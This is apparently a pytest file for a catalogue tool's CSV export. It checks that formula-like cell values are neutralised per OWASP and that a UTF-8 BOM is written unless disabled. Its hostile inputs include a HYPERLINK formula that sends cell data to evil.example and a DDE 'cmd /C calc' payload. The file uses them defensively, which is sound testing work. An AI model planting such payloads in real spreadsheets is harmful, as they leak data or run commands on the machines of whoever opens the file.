"""CSV exports neutralise formulas (OWASP's rule) and begin with a UTF-8 BOM unless asked
not to (issue 14 item 6, issue 13)."""

from __future__ import annotations

import csv
import io

import pytest

from koryu import records as rec
from koryu.catalog.export import BOM, neutralise, write_csv
from koryu.catalog.importer import import_document
from koryu.catalog.organizations import OrganizationResolver

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
]


def test_neutralise_follows_owasp():
    assert [neutralise(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert neutralise("札幌市") == "札幌市" and neutralise("2017-07") == "2017-07"
    assert neutralise(12) == 12 and neutralise(None) is None


@pytest.fixture
def hostile_catalogue(db):
    records = [
        rec.Record(
            kind="agreement",
            key=f"card-{i}",
            title=title,
            line_start=i + 1,
            line_end=i + 1,
            parties=[rec.Party(name=f"=cmd|' /C calc'!A{i}", role="partner", country="JP")],
        )
        for i, title in enumerate(HOSTILE)
    ]
    document = rec.Document(
        name="@hostile.txt", sha256="f" * 64, format="case-cards", language="ja",
        records=records, line_count=len(records),
    )  # fmt: skip
    import_document(document, resolver=OrganizationResolver(use_gazetteer=False))


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.removeprefix(BOM))))


def test_csv_export_writes_no_live_formula(hostile_catalogue):
    out = io.StringIO()
    write_csv(out)
    text = out.getvalue()
    assert text.startswith(BOM)
    for row in _rows(text):
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    titles = sorted(r["title"] for r in _rows(text))
    assert titles == sorted("'" + t for t in HOSTILE)
    assert all(r["parties"].startswith("'=cmd") for r in _rows(text))
    assert _rows(text)[0]["source_document"] == "'@hostile.txt"
    plain = io.StringIO()
    write_csv(plain, bom=False)
    assert not plain.getvalue().startswith(BOM) and plain.getvalue() == text[1:]


def test_api_csv_has_a_bom_unless_bom_false(client, hostile_catalogue):
    with_bom = b"".join(client.get("/api/v1/export.csv", {"kind": "agreement"}).streaming_content)
    assert with_bom.startswith(BOM.encode("utf-8"))
    assert "'=HYPERLINK(" in with_bom.decode("utf-8")
    plain = client.get("/api/v1/export.csv", {"kind": "agreement", "bom": "false"})
    content = b"".join(plain.streaming_content)
    assert not content.startswith(BOM.encode("utf-8")) and content == with_bom[3:]


def test_cli_csv_bom_by_default_and_no_bom(tmp_path):
    from test_cli import koryu

    db = str(tmp_path / "empty.sqlite3")
    with_bom = koryu("export", "--format", "csv", "--db", db).stdout
    plain = koryu("export", "--format", "csv", "--db", db, "--no-bom").stdout
    assert with_bom.startswith(BOM) and with_bom.removeprefix(BOM).startswith("id,")
    assert plain.startswith("id,")
